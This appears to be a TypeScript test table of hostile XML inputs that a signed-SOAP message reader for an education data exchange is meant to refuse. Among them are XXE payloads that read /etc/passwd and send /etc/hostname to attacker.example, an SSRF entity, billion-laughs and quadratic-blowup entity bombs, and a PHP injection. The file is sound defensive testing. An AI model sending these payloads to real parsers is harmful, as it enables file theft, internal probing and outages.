/**
 * Hostile XML around and inside a signed message: refused by the reader, before anything is looked up or expanded.
 * Source: edukoppeling §3.6; EK-24…EK-29, EK-41.
 */
import type { FaultCode } from '../../../src/edukoppeling/faults.ts';
import { attack, type Message, replace, type Table } from '../attack.ts';

const DECLARATION = '<?xml version="1.0" encoding="UTF-8"?>';
const ROOT = '<soap:Envelope';
type Change = (base: string) => Message;

const family = (code: FaultCode, rule: string, cases: readonly (readonly [string, Change])[]): Table =>
  cases.map(([title, change]) => attack(title, code, rule, change));

/** A DTD before the root, and what it would do in the value of a field. */
const dtd =
  (declaration: string, use = ''): Change =>
  (base) => {
    const text = replace(base, ROOT, `${declaration}${ROOT}`);
    return use === '' ? text : replace(text, '>onbekend<', `>${use}<`);
  };
const laughs = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('');

const dtds = family('VB-F03', 'EK-26', [
  ['an empty DTD', dtd('<!DOCTYPE soap:Envelope>')],
  ['an internal entity', dtd('<!DOCTYPE x [<!ENTITY e "vervalst">]>', '&e;')],
  [
    'an external entity that reads a file',
    dtd('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', '&e;'),
  ],
  ['an external entity over http', dtd('<!DOCTYPE x [<!ENTITY e SYSTEM "http://169.254.0.1/">]>', '&e;')],
  [
    'an external entity with a public name',
    dtd('<!DOCTYPE x [<!ENTITY e PUBLIC "x" "http://attacker.example/">]>', '&e;'),
  ],
  ['a parameter entity', dtd('<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>')],
  [
    'parameter entities that send a file away',
    dtd(
      '<!DOCTYPE x [<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % p "<!ENTITY &#37; s SYSTEM \'http://attacker.example/?%f;\'>">%p;%s;]>',
    ),
  ],
  ['an external DTD', dtd('<!DOCTYPE soap:Envelope SYSTEM "http://attacker.example/e.dtd">')],
  [
    'an external DTD with a public name',
    dtd('<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/x.dtd">'),
  ],
  ['a billion laughs', dtd(`<!DOCTYPE x [<!ENTITY l0 "lol">${laughs}]>`, '&l9;')],
  ['quadratic blow-up', dtd(`<!DOCTYPE x [<!ENTITY q "${'x'.repeat(50_000)}">]>`, '&q;'.repeat(1000))],
  ['an entity that holds itself', dtd('<!DOCTYPE x [<!ENTITY e "&e;">]>', '&e;')],
  ['an attribute by default', dtd('<!DOCTYPE x [<!ATTLIST soap:Body wsu:Id CDATA "id-Body">]>')],
  ['an attribute declared as an ID', dtd('<!DOCTYPE x [<!ATTLIST vb:brin x ID #IMPLIED>]>')],
  ['a notation', dtd('<!DOCTYPE x [<!NOTATION n SYSTEM "x">]>')],
  ['a DTD after a comment', dtd('<!-- x --><!DOCTYPE x>')],
  ['a DTD that does not end', dtd('<!DOCTYPE x [')],
]);

const instructions = family('VB-F03', 'EK-26', [
  ['a processing instruction before the root', (base) => replace(base, ROOT, `<?x y?>${ROOT}`)],
  [
    'a stylesheet before the root',
    (base) =>
      replace(base, ROOT, `<?xml-stylesheet href="http://attacker.example/x.xsl" type="text/xsl"?>${ROOT}`),
  ],
  [
    'a processing instruction in the Header',
    (base) => replace(base, '<soap:Header>', '<soap:Header><?x y?>'),
  ],
  ['a processing instruction inside a value', (base) => replace(base, '>onbekend<', '>on<?x y?>bekend<')],
  [
    'a processing instruction inside SignatureValue',
    (base) => base.replace(/(<ds:SignatureValue[^>]*>)/, '$1<?x?>'),
  ],
  [
    'a processing instruction inside DigestValue',
    (base) => replace(base, '<ds:DigestValue>', '<ds:DigestValue><?x?>'),
  ],
  [
    'a processing instruction in the token',
    (base) => base.replace(/(<wsse:BinarySecurityToken[^>]*>)/, '$1<?x?>'),
  ],
  ['a processing instruction after the root', (base) => `${base}<?x y?>`],
  ['an XML declaration that is not first', (base) => ` ${base}`],
  ['an XML declaration inside a value', (base) => replace(base, '>onbekend<', `>${DECLARATION}<`)],
  ['two XML declarations', (base) => DECLARATION + base],
  ['PHP', (base) => replace(base, '>onbekend<', '><?php phpinfo(); ?><')],
]);

const declared =
  (declaration: string): Change =>
  (base) =>
    replace(base, DECLARATION, declaration);
const value =
  (text: string): Change =>
  (base) =>
    replace(base, '>onbekend<', `>${text}<`);
const onBody =
  (attributes: string): Change =>
  (base) =>
    replace(base, '<soap:Body ', `<soap:Body ${attributes} `);
const field =
  (text: string): Change =>
  (base) =>
    replace(base, '<vb:school>', `${text}<vb:school>`);

/** Every element repeats the declaration of the Envelope once it is canonical. */
const growing = family('VB-F03', 'EK-41', [
  [
    'a Body that is many times larger in canonical form',
    (base) =>
      replace(
        replace(base, ROOT, `${ROOT} xmlns:g="urn:${'x'.repeat(240)}"`),
        '<vb:school>',
        `${'<g:a/>'.repeat(40_000)}<vb:school>`,
      ),
  ],
]);

const malformed = family('VB-F03', 'EK-25', [
  ['nothing', () => ''],
  ['only a byte order mark', () => Buffer.from('efbbbf', 'hex')],
  ['two byte order marks', (base) => `\ufeff\ufeff${base}`],
  ['XML 1.1', declared('<?xml version="1.1" encoding="UTF-8"?>')],
  ['XML 2.0', declared('<?xml version="2.0" encoding="UTF-8"?>')],
  ['a declaration without a version', declared('<?xml encoding="UTF-8"?>')],
  ['a declaration with an attribute of its own', declared('<?xml version="1.0" encoding="UTF-8" x="y"?>')],
  ['a declaration that does not end', (base) => replace(base, '?>', ' ')],
  ['an encoding with a blank', declared('<?xml version="1.0" encoding=" UTF-8"?>')],
  ['text before the root', (base) => base.replace(ROOT, () => `x${ROOT}`)],
  ['text after the root', (base) => `${base}x`],
  ['a second root', (base) => `${base}<x/>`],
  ['the whole message twice', (base) => base + base.slice(DECLARATION.length)],
  ['NUL after the root', (base) => `${base}\0`],
  ['CDATA outside the root', (base) => `${base}<![CDATA[x]]>`],
  ['a reference outside the root', (base) => `${base}&#32;`],
  ['the message cut off', (base) => base.slice(0, -1)],
  ['the message cut in the middle', (base) => base.slice(0, base.length / 2)],
  ['an entity that nobody declared', value('&vervalst;')],
  ['a named entity of HTML', value('&nbsp;')],
  ['a reference without a semicolon', value('&amp')],
  ['an ampersand alone', value('a & b')],
  ['NUL', value('\0')],
  ['NUL as a reference', value('&#0;')],
  ['a control character', value('\u0008')],
  ['a control character as a reference', value('&#x1B;')],
  ['an escape sequence for a terminal', value('\u001b[31m')],
  ['a surrogate as a reference', value('&#xD83D;')],
  ['a pair of surrogates as references', value('&#xD83D;&#xDE00;')],
  ['U+FFFF', value('\uffff')],
  ['U+FFFE as a reference', value('&#xFFFE;')],
  ['a reference above the last character', value('&#x110000;')],
  ['a reference of a thousand digits', value(`&#${'0'.repeat(1000)}65;`)],
  ['a negative reference', value('&#-65;')],
  [']]> in a value', value('a]]>b')],
  ['a CDATA section that does not end', value('<![CDATA[x')],
  ['a CDATA section in a CDATA section', value('<![CDATA[<![CDATA[x]]>]]>')],
  ['a comment that does not end', value('<!-- x')],
  ['two hyphens in a comment', value('<!-- -- -->')],
  ['a comment that ends in three hyphens', value('<!-- x --->')],
  ['a conditional section', value('<![INCLUDE[x]]>')],
  ['an element declaration inside', value('<!ELEMENT x ANY>')],
  ['elements that overlap', field('<vb:a><vb:b></vb:a></vb:b>')],
  ['an end tag too many', field('</vb:x>')],
  ['an end tag in another case', field('<vb:a></vb:A>')],
  [
    'an end tag of the same name through another prefix',
    field('<a:x xmlns:a="urn:a" xmlns:b="urn:a"></b:x>'),
  ],
  ['an end tag with an attribute', field('<vb:a></vb:a x="y">')],
  ['a start tag in a start tag', field('<vb:a <vb:b/>/>')],
  ['an attribute without quotation marks', field('<vb:a b=c/>')],
  ['an attribute without a value', field('<vb:a b/>')],
  ['a less-than sign in an attribute', field('<vb:a b="<"/>')],
  ['no blank between attributes', field('<vb:a b="1"c="2"/>')],
  ['an attribute twice', field('<vb:a b="1" b="2"/>')],
  [
    'an attribute twice through two prefixes',
    field('<vb:a xmlns:x="urn:x" xmlns:y="urn:x" x:b="1" y:b="2"/>'),
  ],
  [
    'wsu:Id twice through two prefixes',
    (base) => {
      const wsu = /xmlns:wsu="([^"]*)"/.exec(base)?.[1] ?? '';
      return onBody(`xmlns:u="${wsu}" u:Id="id-Body"`)(base);
    },
  ],
  ['a namespace declared twice', field('<vb:a xmlns:x="urn:x" xmlns:x="urn:y"/>')],
  ['the default namespace declared twice', field('<vb:a xmlns="urn:x" xmlns="urn:y"/>')],
  ['a prefix that nobody declared', field('<x:a/>')],
  ['a prefix that nobody declared, on an attribute', field('<vb:a x:b="1"/>')],
  ['a prefix undeclared as in XML 1.1', onBody('xmlns:vb=""')],
  ['the prefix xml for another namespace', field('<vb:a xmlns:xml="urn:x"/>')],
  [
    'another prefix for the namespace of xml',
    field('<vb:a xmlns:x="http://www.w3.org/XML/1998/namespace"/>'),
  ],
  ['the namespace of xml as the default', field('<a xmlns="http://www.w3.org/XML/1998/namespace"/>')],
  ['the prefix xmlns declared', field('<vb:a xmlns:xmlns="urn:x"/>')],
  ['the prefix xmlns used', field('<xmlns:a/>')],
  ['an element named xmlns', field('<xmlns/>')],
  ['another prefix for the namespace of xmlns', field('<vb:a xmlns:x="http://www.w3.org/2000/xmlns/"/>')],
  ['a namespace with an ampersand', field('<vb:a xmlns:x="urn:x&amp;y"/>')],
  ['a namespace with a quotation mark', field('<vb:a xmlns:x="urn:&quot;"/>')],
  ['a name with two colons', field('<vb:a:b/>')],
  ['a name that begins with a colon', field('<:a/>')],
  ['a name that ends in a colon', field('<vb:/>')],
  ['a name that begins with a digit', field('<vb:1/>')],
  ['a name that begins with a hyphen', field('<vb:-a/>')],
  ['a name with a multiplication sign', field('<vb:a×b/>')],
  ['a name with a Greek question mark', field('<vb:a\u037eb/>')],
  ['a blank before the name', field('< vb:a/>')],
  ['a no-break space between attributes', field('<vb:a\u00a0b="1"/>')],
  ['a NEL between attributes', field('<vb:a\u0085b="1"/>')],
]);

const deep = (depth: number) => '<vb:x>'.repeat(depth) + '</vb:x>'.repeat(depth);
const many = (count: number, write: (i: number) => string) =>
  Array.from({ length: count }, (_, i) => write(i)).join('');

const limits = family('VB-F03', 'EK-41', [
  ['65 elements in one another', field(deep(63))],
  ['100,000 elements in one another', field(deep(100_000))],
  ['100,000 start tags and no end', (base) => replace(base, '<vb:school>', '<vb:x>'.repeat(100_000))],
  ['257 attributes', field(`<vb:a ${many(257, (i) => `b${i}="" `)}/>`)],
  ['257 namespaces on one element', field(`<vb:a ${many(257, (i) => `xmlns:n${i}="urn:${i}" `)}/>`)],
  [
    '4,200 namespaces in one document',
    field(many(420, (i) => `<vb:a ${many(10, (j) => `xmlns:n${i % 20}x${j}="urn:${i}" `)}/>`)),
  ],
  ['2,100 different names', field(many(2100, (i) => `<vb:a${i}/>`))],
  ['2,100 different attributes', field(many(21, (i) => `<vb:a ${many(100, (j) => `b${i}x${j}="" `)}/>`))],
  ['a name of 300 bytes', field(`<vb:${'a'.repeat(300)}/>`)],
  ['an attribute name of 300 bytes', field(`<vb:a ${'b'.repeat(300)}=""/>`)],
  ['a name of a million bytes', field(`<vb:${'a'.repeat(1_000_000)}/>`)],
  ['a prefix of 300 bytes', field(`<${'p'.repeat(300)}:a/>`)],
  ['one byte over the size', (base) => base + ' '.repeat(5 * 1024 * 1024 + 1 - Buffer.byteLength(base))],
]);

export const XML: Table = [...dtds, ...instructions, ...growing, ...malformed, ...limits];
